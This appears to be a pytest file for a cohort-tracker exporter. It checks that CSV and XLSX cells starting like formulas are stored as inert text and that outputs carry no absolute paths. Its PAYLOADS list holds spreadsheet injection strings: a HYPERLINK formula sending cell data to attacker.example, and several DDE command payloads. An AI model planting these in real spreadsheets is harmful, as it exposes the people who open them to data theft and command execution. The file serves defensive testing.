"""Spreadsheet formula injection: the cohort trackers as a centre opens them in Excel.

Every cell that starts like a formula (=, +, -, @, tab, carriage return: OWASP's list) is
text: quote-prefixed in the CSV, a string cell (never a formula) in the XLSX. And no tracker
cell, errors.json entry or console line carries an absolute path of the machine.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from evidencegen.batch import write_tracker
from evidencegen.cli import cli
from evidencegen.models import Outcome

SAMPLES = Path(__file__).resolve().parents[2] / "samples"
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Open report")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
COLUMNS = ["learner_id", "name", "folder", "error"]
XLSX_HEADERS = {"learner_id": "Learner ID", "name": "Learner", "folder": "Folder",
                "error": "Problem"}  # the XLSX's headers are in words


def tracker_with(tmp_path: Path, payload: str) -> Path:
    """A tracker whose every text column (id, name, folder, error) holds the payload."""
    out = tmp_path / "out"
    outcomes = [
        Outcome(payload, payload, "built", statuses={"1.1": "ready"}, name=payload),
        Outcome(payload + "x", "L4-2", "failed", error=payload),
    ]
    write_tracker(out, outcomes, ["1.1"])
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_starting_like_a_formula_is_quoted_text(tmp_path: Path, payload: str) -> None:
    out = tracker_with(tmp_path, payload)
    rows = list(csv.DictReader((out / "cohort.csv").open(newline="")))
    first = rows[0]
    quoted = "'" + payload.replace("\r", "\n")  # a lone CR would end the row mid-cell
    assert len(rows) == 2
    for column in ("learner_id", "name", "folder"):
        assert first[column] == quoted, column
    assert rows[1]["error"] == quoted
    assert rows[1]["learner_id"] == "L4-2"  # ordinary text is left as it is
    assert first["1.1"] == "ready"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_cell_starting_like_a_formula_is_a_string_never_a_formula(
        tmp_path: Path, payload: str) -> None:
    out = tracker_with(tmp_path, payload)
    ws = load_workbook(out / "cohort.xlsx").active
    header = [c.value for c in ws[1]]
    for column in COLUMNS[:3]:
        cell = ws.cell(row=2, column=header.index(XLSX_HEADERS[column]) + 1)
        assert cell.data_type == "s", (column, cell.data_type)
        assert cell.value == payload
        assert cell.quotePrefix
    error = ws.cell(row=3, column=header.index("Problem") + 1)
    assert error.data_type == "s" and error.value == payload
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_xlsx_holds_no_formula_element_at_all(tmp_path: Path) -> None:
    import zipfile

    out = tracker_with(tmp_path, PAYLOADS[0])
    with zipfile.ZipFile(out / "cohort.xlsx") as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_control_characters_in_an_error_do_not_break_the_workbook(tmp_path: Path) -> None:
    out = tmp_path / "out"
    write_tracker(out, [Outcome("a\x01b", "L4-1", "failed", error="bad\x02 file\x1f")], [])
    ws = load_workbook(out / "cohort.xlsx").active
    header = [c.value for c in ws[1]]
    assert ws.cell(row=2, column=header.index("Problem") + 1).value == "bad file"


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory: pytest.TempPathFactory):
    """A real batch over a cohort whose learner, folders and errors start like formulas."""
    root = tmp_path_factory.mktemp("sheet")
    cohort = root / "cohort"
    good = cohort / "=HYPERLINK(1)"
    shutil.copytree(SAMPLES / "just-started", good)
    text = (good / "learner.yaml").read_text()
    text = text.replace("name: Priya Nair", "name: '=HYPERLINK(\"http://x.example\",\"Priya\")'")
    (good / "learner.yaml").write_text(text.replace("L4-031", "'@L4-031'"))
    for name in ("+cmd", "-2+3"):
        bad = cohort / name
        bad.mkdir(parents=True)
        (bad / "learner.yaml").write_text("name: X\nlearner_id: B-1\nnmae: typo\n"
                                          if name == "+cmd" else "name: Y\n")
    out = root / "out"
    here = os.getcwd()
    os.chdir(root)  # as a centre runs it: relative folders on the command line
    try:
        result = CliRunner().invoke(cli, ["batch", "cohort", "-o", "out", "-f", "docx",
                                          "-j", "1"])
    finally:
        os.chdir(here)
    return root, out, result


def test_batch_csv_from_hostile_folders_and_names_is_inert(hostile_batch) -> None:
    _, out, result = hostile_batch
    assert result.exit_code == 1, result.output
    rows = {r["folder"]: r for r in csv.DictReader((out / "cohort.csv").open(newline=""))}
    assert set(rows) == {"'=HYPERLINK(1)", "'+cmd", "'-2+3"}
    assert rows["'=HYPERLINK(1)"]["name"] == "'=HYPERLINK(\"http://x.example\",\"Priya\")"
    assert rows["'=HYPERLINK(1)"]["learner_id"] == "'@L4-031"
    assert rows["'+cmd"]["error"].startswith("'+cmd/learner.yaml:3: unknown field 'nmae'")


def test_batch_xlsx_from_hostile_folders_and_names_has_no_formula(hostile_batch) -> None:
    _, out, _ = hostile_batch
    ws = load_workbook(out / "cohort.xlsx").active
    values = [c.value for row in ws.iter_rows(min_row=2) for c in row]
    assert '=HYPERLINK("http://x.example","Priya")' in values
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_batch_outputs_and_console_carry_no_absolute_path(hostile_batch) -> None:
    root, out, result = hostile_batch
    machine = str(root)
    for name in ("cohort.csv", "cohort.json", "errors.json", "cohort.html"):
        assert machine not in (out / name).read_text(), name
    ws = load_workbook(out / "cohort.xlsx").active
    assert not any(machine in str(c.value) for row in ws.iter_rows() for c in row)
    errors = json.loads((out / "errors.json").read_text())
    assert {e["folder"] for e in errors} == {"+cmd", "-2+3"}
    assert "learner_id" in next(e["error"] for e in errors if e["folder"] == "-2+3")
    assert machine not in result.output
